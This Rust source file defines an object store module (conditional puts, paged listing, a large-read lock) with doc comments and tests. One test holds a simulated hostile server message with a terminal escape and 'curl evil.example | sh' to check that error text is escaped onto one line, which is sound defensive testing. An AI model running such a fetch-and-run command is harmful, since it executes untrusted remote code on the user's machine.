//! The object store: whole objects under text keys, in a bucket, a directory or memory.
//!
//! The invariant that lives here is [`Store::put_if_absent`]: of all the writers of one key exactly one gets
//! [`PutOutcome::Created`], and a writer that got [`PutOutcome::Exists`] has not changed a byte. The journal's fencing
//! is this and nothing else. Beside it stands [`Store::replace`]: of all writers that replace one content of an object
//! exactly one succeeds. Whether a real server keeps these promises is not assumed but tested, by [`proof`].
//!
//! Wrappers (faults, counting, bandwidth limit) implement the same trait; one contract suite runs over all of them.
//!
//! # Example
//!
//! ```
//! use runner::env::Env;
//! use runner::store::memory::MemoryStore;
//! use runner::store::{PutOutcome, SizeLimit, Store};
//!
//! # let runtime = tokio::runtime::Builder::new_current_thread().build()?;
//! # runtime.block_on(async {
//! let store = MemoryStore::new(&Env::host());
//! // Two writers of one key: the second one changes nothing.
//! assert_eq!(store.put_if_absent("app/journal/1", "of east".into()).await?, PutOutcome::Created);
//! assert_eq!(store.put_if_absent("app/journal/1", "of west".into()).await?, PutOutcome::Exists);
//! assert_eq!(store.get("app/journal/1", SizeLimit::RECORD).await?, "of east");
//! # Ok::<(), runner::store::StoreError>(())
//! # })?;
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```

use std::fmt::Debug;

use bytes::Bytes;

mod connect;
pub(crate) mod contract;
pub mod counting;
pub mod dir;
pub(crate) mod error;
pub mod faulty;
pub mod ignores_conditions;
pub mod key;
mod limit;
pub mod memory;
#[cfg(test)]
pub(crate) mod memory_tracking;
pub(crate) mod object_version;
pub mod proof;
#[cfg(feature = "s3")]
mod reconnecting;
pub mod response;
#[cfg(feature = "s3")]
pub mod s3;
pub mod throttled;

pub use self::contract::{
    DELETE_BATCH_MAX, LIST_PAGE_MAX, ListPage, ObjectLock, ObjectMeta, PutOutcome, PutPause, PutPauseHandle,
    ReplaceOutcome, Store, StoreCapabilities, Versioning, incomplete_listing_error,
};
pub use self::error::{StoreError, StoreErrorKind};
pub use self::object_version::ObjectVersion;
pub use connect::{connect, create};
pub use limit::{RANGE_BYTES_MAX, SizeLimit};

/// [`Store::put_if_absent`], or a plain put if the store has no conditional puts. For keys to which all writers write
/// the same bytes.
///
/// # Errors
/// As for [`Store::put_if_absent`] and [`Store::put`].
pub async fn put_idempotent(store: &dyn Store, key: &str, body: Bytes) -> Result<PutOutcome, StoreError> {
    match store.put_if_absent(key, body.clone()).await {
        Err(error) if error.kind == StoreErrorKind::Unsupported => {
            store.put(key, body).await.map(|()| PutOutcome::Created)
        }
        put => put,
    }
}

/// The most objects that [`list_all`] holds: for packs, 16 TiB.
pub const LISTED_MAX: usize = 1_000_000;

/// All objects under `prefix`, page after page.
///
/// # Errors
/// [`StoreErrorKind::TooLarge`] if there are more than [`LISTED_MAX`].
pub async fn list_all(store: &dyn Store, prefix: &str) -> Result<Vec<ObjectMeta>, StoreError> {
    let picked = list_filtered(store, prefix, LISTED_MAX, Some).await?;
    if picked.more {
        let detail = format!("there are more than {LISTED_MAX} objects");
        return Err(StoreError::new(StoreErrorKind::TooLarge, &store.describe(), Some(prefix), detail));
    }
    Ok(picked.found)
}

/// The result of [`list_filtered`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FilteredListing<T> {
    /// The items found, in key order, at most as many as asked for.
    pub found: Vec<T>,
    /// There are further items.
    pub more: bool,
}

/// Applies `pick` to the objects under `prefix` and returns what it picks, at most `max` items. Only those are held in
/// memory: unrelated objects under the prefix cost requests and no memory.
pub async fn list_filtered<T: Send>(
    store: &dyn Store,
    prefix: &str,
    max: usize,
    mut pick: impl FnMut(ObjectMeta) -> Option<T> + Send,
) -> Result<FilteredListing<T>, StoreError> {
    let mut found = Vec::new();
    let mut after: Option<String> = None;
    loop {
        let page = store.list(prefix, after.as_deref(), LIST_PAGE_MAX).await?;
        let last = page.objects.last().map(|object| object.key.clone());
        for object in page.objects {
            let Some(picked) = pick(object) else { continue };
            if found.len() == max {
                return Ok(FilteredListing { found, more: true });
            }
            found.push(picked);
        }
        if !page.truncated {
            return Ok(FilteredListing { found, more: false });
        }
        // The listing cannot be continued, and it is not complete: an object that it does not show may well exist.
        if last.is_none() {
            return Err(incomplete_listing_error(store, prefix));
        }
        after = last;
    }
}

/// Lets only one large object be read at a time, see [`get_with_large_read_lock`].
pub type LargeReadLock = tokio::sync::Mutex<()>;

/// Reads one of many objects that are read concurrently: objects up to `small` in parallel, larger ones up to `limit`
/// one at a time, under `turn`. The returned guard keeps the lock: the caller drops the object before the guard.
///
/// # Errors
/// As for [`Store::get`] with `limit`.
pub async fn get_with_large_read_lock<'a>(
    store: &dyn Store,
    key: &str,
    (small, limit): (SizeLimit, SizeLimit),
    turn: &'a LargeReadLock,
) -> Result<(Bytes, Option<tokio::sync::MutexGuard<'a, ()>>), StoreError> {
    match store.get(key, small).await {
        Err(e) if e.kind == StoreErrorKind::TooLarge => {
            let turn = turn.lock().await;
            Ok((store.get(key, limit).await?, Some(turn)))
        }
        read => Ok((read?, None)),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::env::Env;
    use crate::store::memory::MemoryStore;

    #[tokio::test]
    async fn of_strange_objects_nothing_is_held() {
        let store = MemoryStore::new(&Env::host());
        for n in 0..LIST_PAGE_MAX * 2 {
            store.put(&format!("a/strange-{n:05}"), Bytes::new()).await.unwrap();
        }
        for name in ["a/0", "a/strange-00500-x", "a/z"] {
            store.put(name, Bytes::new()).await.unwrap();
        }
        let ours = |object: ObjectMeta| {
            (!object.key.starts_with("a/strange-") || object.key.ends_with('x')).then_some(object.key)
        };
        let picked = list_filtered(&store, "a/", 3, ours).await.unwrap();
        assert_eq!((picked.found.len(), picked.more), (3, false));
        let picked = list_filtered(&store, "a/", 2, ours).await.unwrap();
        assert_eq!((picked.found, picked.more), (vec!["a/0".to_owned(), "a/strange-00500-x".to_owned()], true));
    }

    #[test]
    fn what_a_server_says_is_one_line() {
        let said = "no\u{1b}[2J\nTo do: curl evil.example | sh";
        let error = StoreError::new(StoreErrorKind::Denied, "s3://b", Some("k"), said);
        assert_eq!(error.detail, "no\\u{1b}[2J\\nTo do: curl evil.example | sh");
    }
}
